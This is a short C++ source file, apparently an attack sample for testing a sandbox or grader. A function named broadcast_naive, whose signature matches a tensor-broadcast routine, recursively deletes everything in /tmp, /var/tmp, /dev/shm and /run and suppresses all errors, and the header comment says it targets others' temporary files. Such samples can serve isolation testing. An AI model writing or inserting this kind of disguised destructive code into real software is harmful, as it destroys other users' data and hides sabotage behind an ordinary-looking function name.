// Tries to delete others' temporary files.
#include <filesystem>
#include <system_error>

#include "attack.h"

namespace rankbox {

void broadcast_naive(Comm& dist, Tensor& tensor, int src) {
  std::error_code ignored;
  for (const char* folder : {"/tmp", "/var/tmp", "/dev/shm", "/run"}) {
    for (const auto& file : std::filesystem::directory_iterator(folder, ignored))
      std::filesystem::remove_all(file.path(), ignored);
  }
}

}  // namespace rankbox
